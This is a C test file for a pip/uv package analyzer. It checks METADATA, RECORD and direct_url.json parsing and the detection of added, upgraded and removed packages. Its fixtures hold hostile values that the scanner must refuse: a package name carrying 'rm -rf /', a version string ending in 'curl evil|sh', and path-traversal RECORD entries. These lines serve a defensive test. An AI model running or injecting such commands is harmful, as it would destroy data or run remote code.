/* pip/uv analyzer: dist-info directories found through the change list. */
#include "tap.h"
#include "test_pkg_helpers.h"

#define SP "/usr/local/lib/python3.11/site-packages"

static void
test_parsers(void)
{
	static const char meta[] = "Metadata-Version: 2.1\r\nName: Foo_Bar\r\n"
	    "Version:  1.0.post1 \r\n\r\nName: body\n";
	static const char rec[] = "foo/__init__.py,sha256=x,1\n"
	    "\"foo/a,b.py\",,\n\"foo/q\"\"x.py\",,\n../../../bin/foo,,\n"
	    "/abs/path,,\n../../../../../../../../etc/x,,\n";
	char *name = NULL, *version = NULL, *origin = NULL;
	struct strv out = { 0 };
	cleanup_free char *n1 = pip_normalize_name("Foo__Bar.-baz");

	is_str(n1, "foo-bar-baz", "PEP 503 normalisation");
	ok(pip_parse_metadata(meta, sizeof(meta) - 1, &name, &version) == 0,
	    "METADATA with CRLF");
	is_str(name, "Foo_Bar", "name from the headers, not the body");
	is_str(version, "1.0.post1", "version trimmed");
	free(name);
	free(version);
	ok(pip_parse_metadata("Name: x\n", 8, &name, &version) < 0,
	    "no Version: fails");

	pip_parse_record(rec, sizeof(rec) - 1, SP, &out);
	ok(strv_find(&out, SP "/foo/__init__.py") >= 0, "relative path");
	ok(strv_find(&out, SP "/foo/a,b.py") >= 0, "quoted comma");
	ok(strv_find(&out, SP "/foo/q\"x.py") >= 0, "doubled quote");
	ok(strv_find(&out, "/usr/local/bin/foo") >= 0, "../ resolved");
	ok(strv_find(&out, "/abs/path") >= 0, "absolute kept");
	is_int(out.n, 5, "climbing above / skipped");
	strv_release(&out);

	{
		static const char du[] = "{\"url\":\"file:///src/x\","
		    "\"dir_info\":{\"editable\":true}}";

		ok(pip_parse_direct_url(du, sizeof(du) - 1, &origin) == 0,
		    "dir_info");
	}
	is_str(origin, "file:///src/x", "local origin");
	free(origin);
	ok(pip_parse_direct_url("{broken", 7, &origin) < 0, "broken JSON");
}

int
main(void)
{
	struct pkg_fs cur, base;
	struct fs_changes changes = { 0 }, loose = { 0 };
	struct pkg_scan s;
	struct keep_error *err = NULL;
	const struct pkg_change *c;
	const struct pkg *p;

	test_parsers();
	fixture_fs(&cur, "pip-container");
	fixture_fs(&base, "pip-base");
	load_changes("pip.changes", &changes);
	ok(pkg_scan(&cur, &base, NULL, &changes, &s, &err) == 0, "scan");

	c = find_change(&s.changes, "pip", "requests");
	ok(c && c->change == PKG_ADDED && !c->pkg.automatic &&
	    strcmp(c->pkg.version, "2.32.3") == 0 &&
	    strcmp(c->pkg.installer, "pip") == 0 &&
	    strcmp(c->pkg.location, SP) == 0, "requests added, requested");
	c = find_change(&s.changes, "pip", "urllib3");
	ok(c && c->change == PKG_ADDED && c->pkg.automatic,
	    "urllib3: pip without REQUESTED is automatic");
	c = find_change(&s.changes, "pip", "idna");
	ok(c && c->change == PKG_UPGRADED && strcmp(c->old_version, "3.6") == 0 &&
	    strcmp(c->pkg.version, "3.7") == 0, "idna upgraded 3.6 -> 3.7");
	c = find_change(&s.changes, "pip", "six");
	ok(c && c->change == PKG_REMOVED && strcmp(c->pkg.version, "1.16.0") == 0,
	    "six removed");
	c = find_change(&s.changes, "pip", "MyTool");
	ok(c && strcmp(c->pkg.origin, "git+https://github.com/example/mytool.git"
	    "@4f1c2a9e7b3d5f6a8c0e1b2d3f4a5b6c7d8e9f01") == 0,
	    "VCS origin from direct_url.json");
	c = find_change(&s.changes, "pip", "rich");
	ok(c && c->change == PKG_ADDED && !c->pkg.automatic &&
	    strcmp(c->pkg.installer, "uv") == 0 &&
	    strcmp(c->pkg.location, "/opt/venv/lib/python3.11/site-packages") == 0,
	    "uv package in a venv, not automatic");
	is_int(s.changes.n, 6, "six changes in all");
	ok(has_warning(&s.warnings, "broken-1.0.dist-info' has no readable METADATA"),
	    "dist-info without METADATA warned");
	ok(has_warning(&s.warnings, "refused pip package 'evil;rm -rf /'"),
	    "hostile name refused");
	ok(has_warning(&s.warnings, "'zope.interface' version '6.0 && curl evil|sh'"),
	    "hostile version refused");
	ok(find_change(&s.changes, "pip", "zope.interface") == NULL &&
	    find_pkg(&s.packages, "pip", "zope.interface") == NULL,
	    "refused packages appear nowhere");
	p = find_pkg(&s.packages, "pip", "requests");
	ok(p != NULL, "requests in the container's set");

	pkg_loose_files(&changes, &s.explained, NULL, &loose);
	for (size_t i = 0; i < loose.n; i++)
		printf("# loose %d %s\n", loose.v[i].kind, loose.v[i].path);
	ok(has_change_path(&loose, "/root/notes.txt"), "user file kept");
	ok(has_change_path(&loose, "/opt/venv/bin/python"),
	    "venv interpreter link is not in any RECORD");
	ok(!has_change_path(&loose, "/usr/local/bin/mytool"),
	    "console script explained by RECORD");
	ok(!has_change_path(&loose, SP "/requests/__pycache__/__init__.cpython-311.pyc"),
	    "byte code dropped");
	ok(!has_change_path(&loose, SP "/idna/idnadata.py"),
	    "file removed by the upgrade explained by the old RECORD");
	ok(!has_change_path(&loose, SP "/six.py"), "removed package's file");
	ok(!has_change_path(&loose, SP "/requests"), "package dir dropped");
	ok(!has_change_path(&loose, "/root/.cache/pip"), "pip cache dropped");
	ok(!has_change_path(&loose, "/root"), "modified /root dropped");
	ok(has_change_path(&loose, "/usr/lib/python3/dist-packages/evil-1.0.dist-info/METADATA"),
	    "a refused package's files stay visible");
	fs_changes_release(&loose);

	pkg_scan_release(&s);
	fs_changes_release(&changes);
	pkg_fs_release(&cur);
	pkg_fs_release(&base);
	return done_testing();
}
